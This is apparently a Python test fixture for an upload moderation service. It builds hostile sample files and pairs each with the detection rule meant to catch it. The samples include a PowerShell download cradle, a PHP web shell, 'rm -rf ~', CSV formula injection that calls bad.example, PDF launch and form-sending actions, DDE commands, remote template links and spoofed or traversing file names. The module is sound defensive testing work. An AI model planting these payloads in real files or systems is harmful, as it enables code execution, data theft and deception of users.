"""The hostile ones: what they are called, what they claim to be, and by which rule they are caught."""

import bz2
import gzip
import io
import lzma
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from services.moderation.tests.hostile.making import (
    DOCX,
    EICAR,
    ODT,
    XLSX,
    aes_zip,
    docx,
    gif,
    locked_zip,
    odt,
    overlapping_zip,
    pdf,
    pdf_stream,
    png,
    png_text,
    seven_zip,
    tarred,
    zipped,
)  # fmt: skip

PDF, ZIP, PNG, JPEG, GIF, TEXT, CSV = (
    "application/pdf", "application/zip", "image/png", "image/jpeg", "image/gif", "text/plain", "text/csv",
)  # fmt: skip


@dataclass(frozen=True)
class Made:
    """`rules`: any of these catches it."""

    what: str
    name: str
    claimed_type: str
    make: Callable[[], bytes]
    rules: tuple[str, ...] = ()


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "grey").save(out, "JPEG")
    return out.getvalue()


def nested(content: bytes, depth: int, name: str = "a.txt") -> bytes:
    for _ in range(depth):
        content, name = zipped({name: content}), "in.zip"
    return content


_SCRIPT = b"<script>alert(document.domain)</script>"
_SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
_PROGRAM = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(400)
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(200)
_COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_JS = b"4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
_VBS = b'Set s = CreateObject("WScript.Shell")\nSet x = CreateObject("MSXML2.XMLHTTP")\n'
_CRADLE = b"powershell IEX (New-Object Net.WebClient).DownloadString('http://bad.example/a')"


def _relationship(kind: str) -> dict[str, bytes]:
    return {
        "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        b"officeDocument/2006/relationships/" + kind.encode() + b'" Target="http://bad.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    }


_MALWARE = [
    Made("EICAR plain", "note.txt", TEXT, lambda: EICAR, ("malware",)),
    Made("EICAR as a table", "table.csv", CSV, lambda: EICAR, ("malware",)),
    Made("EICAR in a zip", "a.zip", ZIP, lambda: zipped({"note.txt": EICAR}), ("malware",)),
    Made("EICAR in a zip in a zip", "a.zip", ZIP, lambda: nested(EICAR, 2), ("malware",)),
    Made("EICAR three zips deep", "a.zip", ZIP, lambda: nested(EICAR, 3), ("malware",)),
    Made("EICAR in a tar in a zip", "a.zip", ZIP, lambda: zipped({"a.tar": tarred({"n": EICAR})}), ("malware",)),
    Made("EICAR in a tar.gz in a zip", "a.zip", ZIP,
         lambda: zipped({"a.tgz": gzip.compress(tarred({"n": EICAR}), mtime=0)}), ("malware",)),
    Made("EICAR in a 7z in a zip", "a.zip", ZIP, lambda: zipped({"a.7z": seven_zip("n", EICAR)}), ("malware",)),
    Made("EICAR in a bz2 in a zip", "a.zip", ZIP, lambda: zipped({"a.bz2": bz2.compress(EICAR)}), ("malware",)),
    Made("EICAR in a document", "a.docx", DOCX, lambda: docx({"word/media/a.txt": EICAR}), ("malware",)),
    Made("EICAR in a PDF", "a.pdf", PDF,
         lambda: pdf("", (pdf_stream(4, "/Type /EmbeddedFile", EICAR),)), ("malware", "active_content")),
    Made("EICAR as a 7z named zip", "a.zip", ZIP, lambda: seven_zip("n", EICAR), ("malware",)),
    Made("EICAR as a tar named zip", "a.zip", ZIP, lambda: tarred({"n": EICAR}), ("malware",)),
    Made("a web shell", "a.txt", TEXT, lambda: b"<?php eval(base64_decode($_POST['x'])); ?>", ("malware",)),
    Made("a download cradle", "a.txt", TEXT, lambda: _CRADLE, ("malware",)),
    Made("a script dropper in a zip", "a.zip", ZIP, lambda: zipped({"invoice.vbs": _VBS}), ("malware",)),
]  # fmt: skip
_ARCHIVES = [
    Made("a zip with a password", "a.zip", ZIP, lambda: locked_zip("a.txt", b"Hello"), ("encrypted",)),
    Made("a zip with an AES password", "a.zip", ZIP, lambda: aes_zip("a.txt", b"Hello"), ("encrypted",)),
    Made("a locked zip in a zip", "a.zip", ZIP, lambda: zipped({"b.zip": locked_zip("a", b"x")}), ("encrypted",)),
    Made("a bomb: 100 MB in 100 kB", "a.zip", ZIP, lambda: zipped({"a": bytes(100_000_000)}), ("archive_limits",)),
    Made("a bomb of many entries", "a.zip", ZIP,
         lambda: zipped({f"{n}": bytes(950_000) for n in range(400)}), ("archive_limits",)),
    Made("a bomb of bombs", "a.zip", ZIP,
         lambda: zipped({f"{n}.zip": zipped({"a": bytes(20_000_000)}) for n in range(12)}), ("archive_limits",)),
    Made("entries that lie on one another", "a.zip", ZIP, lambda: overlapping_zip(500, 900_000), ("archive_limits",)),
    Made("five thousand entries", "a.zip", ZIP,
         lambda: zipped({f"{n}": b"x" for n in range(5000)}), ("archive_limits",)),
    Made("six zips deep", "a.zip", ZIP, lambda: nested(b"x", 6), ("archive_limits",)),
    Made("a gzip bomb in a zip", "a.zip", ZIP,
         lambda: zipped({"a.gz": gzip.compress(bytes(60_000_000), mtime=0)}), ("archive_limits",)),
    Made("an xz bomb in a zip", "a.zip", ZIP,
         lambda: zipped({"a.xz": lzma.compress(bytes(60_000_000), preset=1)}), ("archive_limits",)),
    Made("a 7z in a zip", "a.zip", ZIP, lambda: zipped({"a.7z": seven_zip("n", b"hello")}), ("archive_limits",)),
    Made("a RAR named zip", "a.zip", ZIP, lambda: b"Rar!\x1a\x07\x01\x00" + bytes(200), ("wrong_type",)),
    Made("a zip cut in half", "a.zip", ZIP, lambda: zipped({"a": bytes(range(256)) * 40})[:-60], ("unreadable",)),
    Made("a zip with a way out", "a.zip", ZIP, lambda: zipped({"../../etc/cron.d/a": b"x"}), ("hostile_name",)),
    Made("a program in a zip", "a.zip", ZIP, lambda: zipped({"setup.exe": _PROGRAM}), ("program",)),
    Made("a program named text in a zip", "a.zip", ZIP, lambda: zipped({"read.txt": _ELF}), ("program",)),
    Made("a shortcut in a zip", "a.zip", ZIP, lambda: zipped({"open.lnk": b"L\0\0\0" + bytes(80)}), ("program",)),
    Made("a double ending in a zip", "a.zip", ZIP,
         lambda: zipped({"bill.pdf.js": b"x()"}), ("program", "hostile_name")),
    Made("a turned name in a zip", "a.zip", ZIP, lambda: zipped({"bill\u202efdp.exe": b"x"}), ("hostile_name",)),
    Made("a document with macros in a zip", "a.zip", ZIP,
         lambda: zipped({"a.docx": docx({"word/vbaProject.bin": _COMPOUND})}), ("macros",)),
    Made("a link whose name is no text in a tar in a zip", "a.zip", ZIP,
         lambda: zipped({"a.tar": tarred({"a": b"x"}, link="x", called=b"l\xffnk")}), ("archive_limits",)),
    Made("more than is looked into in a zip in a zip", "a.zip", ZIP,
         lambda: zipped({"a.zip": zipped({"a.bin": b"x" * 25_000_000}, method=0)}, method=0), ("archive_limits",)),
    Made("a link in a tar in a zip", "a.zip", ZIP,
         lambda: zipped({"a.tar": tarred({"a": b"x"}, link="/etc/passwd")}), ("archive_limits",)),
]  # fmt: skip
_KINDS = [
    Made("HTML named .jpg", "a.jpg", JPEG, lambda: _HTML, ("wrong_type",)),
    Made("HTML named .txt", "a.txt", TEXT, lambda: _HTML, ("wrong_type", "active_content")),
    Made("HTML in UTF-16 named .txt", "a.txt", TEXT, lambda: _HTML.decode().encode("utf-16"), ("active_content",)),
    Made("HTML behind spaces", "a.txt", TEXT, lambda: b"\n \t" * 40 + _HTML, ("active_content", "wrong_type")),
    Made("SVG with a script named .png", "a.png", PNG, lambda: _SVG, ("wrong_type",)),
    Made("SVG with a script named .txt", "a.txt", TEXT, lambda: _SVG, ("wrong_type", "active_content")),
    Made("a program named .pdf", "a.pdf", PDF, lambda: _PROGRAM, ("program",)),
    Made("a program named .png", "a.png", PNG, lambda: _ELF, ("program",)),
    Made("a script for the shell", "a.txt", TEXT, lambda: b"#!/bin/sh\nrm -rf ~\n", ("program",)),
    Made("a zip named .docx", "a.docx", DOCX, lambda: zipped({"a.txt": b"x"}), ("wrong_type",)),
    Made("a PNG named .jpg", "a.jpg", JPEG, png, ("wrong_type",)),
    Made("a PDF named .txt", "a.txt", TEXT, pdf, ("wrong_type",)),
    Made("bytes named .csv", "a.csv", CSV, lambda: bytes(range(256)) * 8, ("wrong_type",)),
    Made("an old document named .docx", "a.docx", DOCX, lambda: _COMPOUND, ("wrong_type",)),
    Made("a table that calls", "a.csv", CSV, lambda: b"name,sum\n=cmd|' /C calc'!A0,1\n", ("active_content",)),
    Made("a table that sends", "a.csv", CSV,
         lambda: b'a,b\n"=WEBSERVICE(""http://bad.example/""&A1)",2\n', ("active_content",)),
]  # fmt: skip
_POLYGLOTS = [
    Made("PDF and zip in one", "a.pdf", PDF, lambda: pdf() + zipped({"a.txt": b"x"}), ("polyglot",)),
    Made("JPEG and zip in one", "a.jpg", JPEG, lambda: jpeg() + zipped({"a.txt": b"x"}), ("polyglot",)),
    Made("PNG and zip in one", "a.png", PNG, lambda: png() + zipped({"a.txt": b"x"}), ("polyglot",)),
    Made("zip that opens as a PDF", "a.zip", ZIP,
         lambda: zipped({"a.txt": pdf()}, method=0), ("polyglot",)),
    Made("GIF with a script", "a.gif", GIF, lambda: gif(1, 1, comment=_SCRIPT), ("polyglot",)),
    Made("PNG with a script", "a.png", PNG, lambda: png(more=png_text(_SCRIPT)), ("polyglot",)),
    Made("JPEG with PHP behind it", "a.jpg", JPEG, lambda: jpeg() + b"<?php echo 1; ?>", ("polyglot",)),
    Made("JPEG with a program behind it", "a.jpg", JPEG, lambda: jpeg() + _PROGRAM, ("polyglot",)),
    Made("a PDF behind something else", "a.pdf", PDF, lambda: b"GARBAGE" + pdf(), ("polyglot", "wrong_type")),
]  # fmt: skip
_PAPERS = [
    Made("PDF with JavaScript", "a.pdf", PDF, lambda: pdf("/OpenAction 4 0 R", (_JS,)), ("active_content",)),
    Made("PDF with disguised JavaScript", "a.pdf", PDF,
         lambda: pdf("/OpenAction 4 0 R", (_JS.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53"),)),
         ("active_content",)),
    Made("PDF with packed JavaScript", "a.pdf", PDF,
         lambda: pdf("/OpenAction 5 0 R", (pdf_stream(4, "/Type /ObjStm /N 1 /First 4", b"5 0 " + _JS[8:-8]),)),
         ("active_content",)),
    Made("PDF that starts a program", "a.pdf", PDF,
         lambda: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), ("active_content",)),
    Made("PDF that sends a form", "a.pdf", PDF,
         lambda: pdf("/OpenAction << /S /SubmitForm /F (http://bad.example) >>"), ("active_content",)),
    Made("PDF with a file inside", "a.pdf", PDF,
         lambda: pdf("", (pdf_stream(4, "/Type /EmbeddedFile", b"x"),)), ("active_content",)),
    Made("PDF with a password", "a.pdf", PDF,
         lambda: pdf("", (b"4 0 obj\n<< /Filter /Standard /V 1 /R 2 /O (" + b"x" * 32 + b") /U (" + b"y" * 32
                          + b") /P -4 >>\nendobj\n",), "/Encrypt 4 0 R"), ("encrypted",)),
    Made("PDF with a bomb", "a.pdf", PDF,
         lambda: pdf("", (pdf_stream(4, "/Type /ObjStm", bytes(80_000_000)),)), ("archive_limits",)),
]  # fmt: skip
_OFFICE = [
    Made("document with macros", "a.docx", DOCX, lambda: docx({"word/vbaProject.bin": _COMPOUND}), ("macros",)),
    Made("document of a kind with macros", "a.docx", DOCX,
         lambda: docx(types='<Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
         ("macros",)),
    Made("document with a template from elsewhere", "a.docx", DOCX,
         lambda: docx(_relationship("attachedTemplate")), ("macros",)),
    Made("document with an object from elsewhere", "a.docx", DOCX,
         lambda: docx(_relationship("oleObject")), ("macros",)),
    Made("document with an object inside", "a.docx", DOCX,
         lambda: docx({"word/embeddings/oleObject1.bin": _COMPOUND}), ("macros",)),
    Made("document that asks another program", "a.docx", DOCX,
         lambda: docx(body='<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>'),
         ("active_content",)),
    Made("document with a password", "a.docx", DOCX,
         lambda: _COMPOUND + "EncryptedPackage".encode("utf-16-le") + bytes(1000), ("encrypted", "wrong_type")),
    Made("open document with Basic", "a.odt", ODT, lambda: odt({"Basic/Standard/Module1.xml": b"<x/>"}), ("macros",)),
    Made("open document with a password", "a.odt", ODT,
         lambda: odt(manifest="<manifest:encryption-data/>"), ("encrypted",)),
    Made("table that is a document", "a.xlsx", XLSX, lambda: docx(), ("wrong_type",)),
]  # fmt: skip
_IMAGES = [
    Made("pixel flood: a small PNG of 2 gigapixels", "a.png", PNG,
         lambda: png(46_000, 46_000, bytes(1000)), ("pixel_flood",)),
    Made("pixel flood that is true", "a.png", PNG, lambda: png(12_000, 6_000), ("pixel_flood",)),
    Made("a GIF of very many frames", "a.gif", GIF, lambda: gif(2000, 2000, 5000), ("pixel_flood",)),
    Made("an image of largest sides", "a.png", PNG,
         lambda: png(2**31 - 1, 2**31 - 1, b""), ("pixel_flood", "unreadable")),
    Made("an image cut off in its head", "a.png", PNG, lambda: png()[:20], ("unreadable", "wrong_type")),
]  # fmt: skip
_NAMES = [
    Made("double ending", "holiday.jpg.exe", JPEG, jpeg, ("hostile_name",)),
    Made("double ending the other way", "bill.exe.pdf", PDF, pdf, ("hostile_name",)),
    Made("a script's ending", "photo.svg", PNG, png, ("hostile_name",)),
    Made("a name that turns right to left", "gpj.\u202eexe.jpg", JPEG, jpeg, ("hostile_name",)),
    Made("a name with an isolate", "bill\u2066gpj.exe\u2069.pdf", PDF, pdf, ("hostile_name",)),
    Made("a name with a bell in it", "bill\x07.pdf", PDF, pdf, ("hostile_name",)),
    Made("an ending far away", "bill.pdf" + " " * 60 + ".exe", PDF, pdf, ("hostile_name",)),
    Made("a way out of its folder", "../../../etc/passwd.txt", TEXT, lambda: b"x", ("hostile_name",)),
]  # fmt: skip
_REFUSED = [
    Made("HTML that says so", "a.html", "text/html", lambda: _HTML, ("wrong_type",)),
    Made("SVG that says so", "a.svg", "image/svg+xml", lambda: _SVG, ("wrong_type",)),
    Made("a program that says so", "a.exe", "application/x-msdownload", lambda: _PROGRAM, ("wrong_type",)),
    Made("a name with a NUL", "bill.exe\x00.pdf", PDF, pdf, ("hostile_name",)),
]
"""Chat takes none of these; moderation would not let them through either."""
HOSTILE = [*_MALWARE, *_ARCHIVES, *_KINDS, *_POLYGLOTS, *_PAPERS, *_OFFICE, *_IMAGES, *_NAMES, *_REFUSED]
